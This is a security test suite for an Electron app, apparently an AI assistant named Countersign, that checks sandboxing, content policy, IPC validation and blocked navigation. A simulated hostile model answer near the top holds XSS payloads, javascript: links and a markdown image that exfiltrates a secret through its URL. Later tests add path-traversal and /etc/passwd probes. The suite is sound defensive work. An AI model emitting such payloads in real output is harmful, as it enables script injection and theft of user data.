import { spawnSync } from 'node:child_process'
import { lstatSync, readdirSync, readFileSync } from 'node:fs'
import path from 'node:path'
import { setTimeout as delay } from 'node:timers/promises'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { contentPolicy } from '../../src/main/app/electron/contentPolicy'
import { functionName } from '../../src/shared/ipc/bridge'
import { channels } from '../../src/shared/ipc/channels'
import { schemas } from '../../src/shared/ipc/schemas'
import { inWorld, makeAppWorld, type AppUnderTest, type AppWorld } from '../support/appUnderTest'
import { reply } from '../support/fakeModelServer'
import { hasUserNamespaces, rendererSeccompModes } from '../support/asNobody'
import { childEnv, electronExecutable, repositoryRoot, sandboxArgs } from '../support/window'

/** The page's bridge, as a script in the page finds it. */
type Bridge = Readonly<Record<string, (ask: unknown) => Promise<unknown>>>

const leak = 'the-secret-of-the-page'
/** What a hostile model might answer. */
const hostileAnswer = (port: number): string => `<script>globalThis.pwned = 1</script><img src=x onerror="globalThis.pwned = 2"><iframe src="https://example.invalid/"></iframe>

[press me](javascript:globalThis.pwned=3) [a file](file:///etc/passwd) [the web](https://example.invalid/page) ![picture](http://127.0.0.1:${port}/leak?${leak}) <a href="javascript:globalThis.pwned=4">raw</a>

End of it.`

let world: AppWorld
let app: AppUnderTest

beforeAll(async () => {
  world = await makeAppWorld({ files: { 'a.txt': 'a\n' }, model: { steps: [(_request) => reply({ text: hostileAnswer(world.model.port) }), reply({ calls: [{ name: 'write_file', args: { path: 'made.txt', content: 'made' } }] }), reply({ text: 'Written.' })] } })
  app = await world.start()
})
afterAll(() => world.remove())

/** Runs in the main process, like `electron.evaluate`. */
const inMain: AppUnderTest['window']['app']['evaluate'] = (...given: Parameters<AppUnderTest['window']['app']['evaluate']>) => app.window.app.evaluate(...given)

describe('E1 to E20, one row each', () => {
  test('E1 E20 the page comes from the app scheme, and no bundle names a foreign address without encryption', () => {
    expect(app.page.url()).toBe('app://ui/')
    const built = path.join(repositoryRoot, 'out')
    const files = ['main', 'preload', 'renderer/assets'].flatMap((folder) => readdirSync(path.join(built, folder)).map((name) => path.join(built, folder, name))).filter((file) => /\.c?js$/.test(file))
    const named = new Set(files.flatMap((file) => [...readFileSync(file, 'utf8').matchAll(/\b(?:http|ws):\/\/([\w.:*-]+)/g)].map((match) => match[1])))
    // XML names, loopback, the tutor that has no network, and words that explain what an address looks like.
    const harmless = /^(www\.w3\.org|(localhost|127\.0\.0\.1)(:[\d*]*)?|practice\.invalid|example\.com|name:word|www\.ibm\.com)$/
    expect([...named].filter((host) => !harmless.test(host ?? ''))).toEqual([])
  })

  test('E2 E3 E4 E6 E8 E9 E10 E11 the renderer is sandboxed, isolated and without node', async () => {
    const preferences = await inMain(({ webContents }) =>
      webContents.getAllWebContents().map((contents) => {
        // Not in the published types; it tells what Chromium was really given.
        const given = (contents as unknown as { getLastWebPreferences(): Record<string, unknown> }).getLastWebPreferences()
        const names = ['sandbox', 'contextIsolation', 'nodeIntegration', 'nodeIntegrationInWorker', 'nodeIntegrationInSubFrames', 'webviewTag', 'webSecurity', 'allowRunningInsecureContent', 'experimentalFeatures', 'enableBlinkFeatures']
        return Object.fromEntries(names.map((name) => [name, given[name] || false]))
      }),
    )
    expect(preferences).toEqual([
      { sandbox: true, contextIsolation: true, nodeIntegration: false, nodeIntegrationInWorker: false, nodeIntegrationInSubFrames: false, webviewTag: false, webSecurity: true, allowRunningInsecureContent: false, experimentalFeatures: false, enableBlinkFeatures: false },
    ])
    const seen = await app.page.evaluate(() => ['require', 'process', 'module', 'Buffer', 'global', 'electron', 'ipcRenderer'].filter((name) => name in globalThis))
    expect(seen).toEqual([])
  })

  test('E3 the preload puts one frozen object there: a function a channel, and nothing that sends freely', async () => {
    const seen = await app.page.evaluate(() => {
      const host = (globalThis as unknown as { host: Record<string, unknown> }).host
      const before = host['appStart']
      try {
        host['appStart'] = () => 'mine'
      } catch {
        // strict code is told
      }
      let push = 'heard'
      try {
        ;(host['on'] as (name: string, listener: () => void) => void)('any/thing', () => undefined)
      } catch {
        push = 'refused'
      }
      return { names: Object.keys(host).sort(), kinds: [...new Set(Object.values(host).map((one) => typeof one))], isKept: host['appStart'] === before, push }
    })
    expect(seen).toEqual({ names: [...channels.map(functionName), 'on', 'droppedPath'].sort(), kinds: ['function'], isKept: true, push: 'refused' })
  })

  test('E5 every permission is refused', async () => {
    const answers = await app.page.evaluate(async () => {
      const names = ['geolocation', 'notifications', 'camera', 'microphone', 'clipboard-read', 'clipboard-write', 'midi', 'persistent-storage', 'screen-wake-lock', 'local-fonts']
      const states: Record<string, string> = {}
      for (const name of names) states[name] = (await navigator.permissions.query({ name: name as PermissionName }).catch(() => ({ state: 'denied' }))).state
      const place = await new Promise<string>((resolve) => navigator.geolocation.getCurrentPosition(() => resolve('given'), (error) => resolve(error.code === error.PERMISSION_DENIED ? 'denied' : error.message)))
      const asked = await Notification.requestPermission()
      return { granted: Object.keys(states).filter((name) => states[name] !== 'denied'), notification: Notification.permission, asked, place }
    })
    expect(answers).toEqual({ granted: [], notification: 'denied', asked: 'denied', place: 'denied' })
  })

  test('E7 the policy is a strict header, and is obeyed: no inline script, no eval, no foreign frame or fetch', async () => {
    const header = await app.page.evaluate(async () => (await fetch('app://ui/')).headers.get('content-security-policy'))
    expect(header).toBe(contentPolicy)
    expect(contentPolicy).toMatch(/^default-src 'none'/)
    expect(contentPolicy).not.toMatch(/unsafe-eval|script-src[^;]*unsafe-inline|https?:/)
    const ran = await app.page.evaluate(async () => {
      const script = document.createElement('script')
      script.textContent = 'globalThis.injected = true'
      document.head.append(script)
      const button = document.createElement('button')
      button.setAttribute('onclick', 'globalThis.injected = true')
      button.click()
      // From a task of the page's own: what the driver itself evaluates is let past the policy.
      const evaluated = await new Promise<string>((resolve) => setTimeout(() => {
        try {
          resolve(String(eval('1 + 1')))
        } catch (error) {
          resolve((error as Error).name)
        }
      }))
      const fetched = await fetch('https://example.invalid/').then(() => true, () => false)
      return { inline: 'injected' in globalThis, evaluated, fetched }
    })
    expect(ran).toEqual({ inline: false, evaluated: 'EvalError', fetched: false })
  })

  // In a window of its own: the driver takes a navigation that was held back for one that never ends.
  test('E11 E12 E13 E14 a webview, another page, a file and a second window get nothing', () =>
    inWorld({}, async (other) => {
      const { app: electron, page } = (await other.open()).window
      const opened = await page.evaluate(() => {
        document.body.append(document.createElement('webview'))
        return globalThis.open('https://example.invalid/') === null
      })
      const held = await electron.evaluate(async ({ webContents }) => {
        const [contents] = webContents.getAllWebContents()
        const seen: string[] = []
        for (const address of ['https://example.invalid/', 'app://other/', 'app://ui/index.html', 'data:text/html,x']) {
          const tried = new Promise<void>((resolve) => contents?.once('will-frame-navigate', (event) => resolve(void seen.push(`${event.url} ${event.defaultPrevented}`))))
          // Chromium refuses a page's wish for data: by itself, before anybody is asked.
          await contents?.executeJavaScript(`location.href = ${JSON.stringify(address)}; 0`)
          if (!address.startsWith('data:')) await tried
        }
        return seen
      })
      await page.evaluate(() => {
        location.href = 'file:///etc/passwd'
      }).catch(() => undefined)
      const contents = await electron.evaluate(({ webContents }) => webContents.getAllWebContents().map((each) => each.getURL()))
      expect({ opened, held, contents }).toEqual({ opened: true, held: ['https://example.invalid/ true', 'app://other/ true', 'app://ui/index.html true'], contents: ['app://ui/'] })
    }))

  test('E15 only https and mailto leave, only after the person saw the address and said yes', async () => {
    await inMain(({ dialog, shell }) => {
      const log: string[] = []
      ;(globalThis as unknown as { log: string[] }).log = log
      shell.openExternal = (address) => Promise.resolve(void log.push(`opened ${address}`))
      dialog.showMessageBox = ((options: { message: string }) => Promise.resolve({ response: log.push(`asked ${options.message}`) > 1 ? 1 : 0, checkboxChecked: false })) as unknown as typeof dialog.showMessageBox
    })
    await app.page.evaluate(async () => {
      const { linkOpen } = (globalThis as unknown as { host: Bridge }).host as { linkOpen: (ask: unknown) => Promise<unknown> }
      for (const url of ['javascript:alert(1)', 'file:///etc/passwd', 'smb://host/share', 'ms-msdt:x', 'http://example.invalid/', 'https://bank.example@example.invalid/', 'https://example.invalid/no', 'https://example.invalid/yes']) await linkOpen({ url })
    })
    expect(await inMain(() => (globalThis as unknown as { log: string[] }).log)).toEqual([
      'asked Open this address outside Countersign? https://example.invalid/no',
      'asked Open this address outside Countersign? https://example.invalid/yes',
      'opened https://example.invalid/yes',
    ])
  })

  test('E17 a foreign page with our preload, contents without a window, and a frame are refused', async () => {
    const answers = await inMain(async ({ app: electron, BrowserWindow, WebContentsView }) => {
      const preload = `${electron.getAppPath()}/out/preload/index.cjs`
      const ask = 'globalThis.host.appStart({}).then(() => "answered", (error) => error.message.includes("refused") ? "refused" : error.message)'
      const webPreferences = { preload, sandbox: true, contextIsolation: true }
      const foreign = new BrowserWindow({ show: false, webPreferences })
      await foreign.loadURL('data:text/html,<p>foreign</p>')
      const unknown = new WebContentsView({ webPreferences })
      await unknown.webContents.loadURL('app://ui/')
      const results = [await foreign.webContents.executeJavaScript(ask), await unknown.webContents.executeJavaScript(ask)] as unknown[]
      foreign.destroy()
      unknown.webContents.close()
      return results
    })
    const frame = await app.page.evaluate(() => {
      const inner = document.createElement('iframe')
      document.body.append(inner)
      const hasHost = inner.contentWindow !== null && 'host' in inner.contentWindow
      inner.remove()
      return hasHost
    })
    expect({ answers, frame }).toEqual({ answers: ['refused', 'refused'], frame: false })
  })

  test('E17 no handler is registered outside the wrapper', () => {
    const files = readdirSync(path.join(repositoryRoot, 'src'), { recursive: true, encoding: 'utf8' }).filter((name) => /\.tsx?$/.test(name))
    expect(files.filter((name) => /ipcMain\s*\.\s*(handle|on)/.test(readFileSync(path.join(repositoryRoot, 'src', name), 'utf8')))).toEqual([path.join('main', 'ipc', 'register.ts')])
  })

  test('E18 what does not fit a schema never reaches a handler, and main lives on', async () => {
    const junk: readonly unknown[] = [...fc.sample(fc.jsonValue(), { numRuns: 60, seed: 7 }), null, 'x', 3, []]
    const tries = channels.flatMap((name) => junk.filter((value) => !schemas[name].input.safeParse(value).success).map((value) => ({ name: functionName(name), json: JSON.stringify(value) })))
    expect(tries.length).toBeGreaterThan(channels.length * 30)
    const answered = await app.page.evaluate(async (all) => {
      const host = (globalThis as unknown as { host: Bridge }).host
      const results = await Promise.all(all.map(({ name, json }) => host[name]?.(JSON.parse(json)).then(() => name, () => null) ?? Promise.resolve(name)))
      return results.filter((name) => name !== null)
    }, tries)
    expect(answered).toEqual([])
    expect(await app.page.evaluate(() => (globalThis as unknown as { host: Bridge }).host['appStart']?.({}).then(() => 'alive', () => 'dead'))).toBe('alive')
  })

  test('E19 the page cannot loosen the asking level by itself: main asks by a dialog of its own', async () => {
    const tried = async (says: number): Promise<unknown> => {
      await app.window.app.evaluate(({ dialog }, response) => {
        dialog.showMessageBox = () => Promise.resolve({ response, checkboxChecked: false })
      }, says)
      return app.page.evaluate(async () => {
        const host = (globalThis as unknown as { host: Bridge }).host
        const session = (await host['sessionCreate']?.({})) as { id: string }
        const stricter = (await host['sessionSetLevel']?.({ sessionId: session.id, level: 'all' })) as { ok: boolean }
        const looser = (await host['sessionSetLevel']?.({ sessionId: session.id, level: 'commands' })) as { ok: boolean }
        const settings = (await host['settingsChange']?.({ askingLevel: 'commands' })) as { ok: boolean; value: { askingLevel: string } }
        return { stricter: stricter.ok, looser: looser.ok, setting: settings.value.askingLevel }
      })
    }
    expect([await tried(0), await tried(1)]).toEqual([{ stricter: true, looser: false, setting: 'writes' }, { stricter: true, looser: true, setting: 'writes' }])
  })

  test('E20 nothing beside the bundle is served', async () => {
    const answers = await app.page.evaluate(() => {
      const addresses = ['app://ui/../package.json', 'app://ui/%2e%2e/main/index.js', 'app://ui/..%2f..%2fpackage.json', 'app://ui/assets', 'app://other/index.html', 'file:///etc/passwd']
      return Promise.all(addresses.map((address) => fetch(address).then((response) => response.status, () => 'refused')))
    })
    expect(answers).toEqual([404, 404, 404, 404, 'refused', 'refused'])
  })
})

describe('beyond E20', () => {
  test('E27 what a model writes is text: no element, script, link or picture of its own comes to life', async () => {
    await app.button('session.new').first().click()
    await app.send('answer')
    await app.says('End of it.')
    await app.idle()
    const drawn = await app.conversation.evaluate((log) => ({
      elements: log.querySelectorAll('.prose script, .prose img, .prose iframe, .prose [onerror]').length,
      links: [...log.querySelectorAll('a')].map((link) => link.getAttribute('href')),
      pwned: 'pwned' in globalThis,
    }))
    expect(drawn).toEqual({ elements: 0, links: ['https://example.invalid/page'], pwned: false })
    expect(world.model.otherRequests.filter((request) => request.path.includes(leak))).toEqual([])
  })

  test('E28 all state lies in the data folder, for its owner alone', async () => {
    await app.send('write')
    await app.allow('made.txt')
    await app.says('Written.')
    await app.idle()
    const own = readdirSync(world.dataDir, { recursive: true, encoding: 'utf8' }).filter((name) => name !== 'window' && !name.startsWith(`window${path.sep}`))
    const open = own.filter((name) => (lstatSync(path.join(world.dataDir, name)).mode & 0o077) !== 0)
    expect({ mode: lstatSync(world.dataDir).mode & 0o777, open, hasWindow: readdirSync(world.dataDir).includes('window') }).toEqual({ mode: 0o700, open: [], hasWindow: true })
    expect(own.length).toBeGreaterThan(5)
  })

  test('E29 nothing listens: the app has no server of its own', async () => {
    expect(await inMain(() => process.getActiveResourcesInfo().filter((name) => /Server|UDP/.test(name)))).toEqual([])
  })

  // Names and proxies are closed to Chromium as well, so its own log is read, where a request stands before it fails.
  test('E29 Chromium asks for nothing by itself: no dictionary, no update, no name, from a first start on', () =>
    inWorld({}, async (other) => {
      const log = path.join(other.base, 'net.json')
      const quiet = await other.start({ args: [`--log-net-log=${log}`] })
      await quiet.message.fill('a wrod to chekc')
      await delay(4000)
      const languages = await quiet.window.app.evaluate(({ session }) => session.defaultSession.getSpellCheckerLanguages())
      await quiet.close()
      const text = readFileSync(log, 'utf8')
      const asked = [...text.matchAll(/"(?:url|host|host_and_port|hostname)":"([^"]*)"/g)].map((match) => match[1] ?? '')
      expect({ isLog: text.includes('"constants"'), languages, asked: [...new Set(asked)] }).toEqual({ isLog: true, languages: [], asked: [] })
    }))

  test('E28 a second start on the same data folder ends at once and opens its folder in the first', () =>
    inWorld({}, async (other) => {
      const first = await other.open()
      const second = spawnSync(electronExecutable(), [...sandboxArgs, repositoryRoot, other.project], { env: childEnv({ COUNTERSIGN_DATA_DIR: other.dataDir, HOME: other.home }), timeout: 30_000 })
      await first.message.waitFor()
      const windows = await first.window.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)
      const gone = path.join(other.base, 'gone')
      spawnSync(electronExecutable(), [...sandboxArgs, repositoryRoot, gone], { env: childEnv({ COUNTERSIGN_DATA_DIR: other.dataDir, HOME: other.home }), timeout: 30_000 })
      await first.page.getByRole('alert').filter({ hasText: gone }).waitFor()
      expect({ status: second.status, windows }).toEqual({ status: 0, windows: 1 })
    }))

  // As another user than root, Chromium's own sandbox has to be at work: `process.sandboxed` alone reads true without it as well.
  test.runIf(hasUserNamespaces())('E4 the renderer is held by seccomp where we are not root', async () => {
    const modes = await rendererSeccompModes()
    expect(modes.length).toBeGreaterThan(0)
    expect(new Set(modes)).toEqual(new Set(['2']))
  })
})
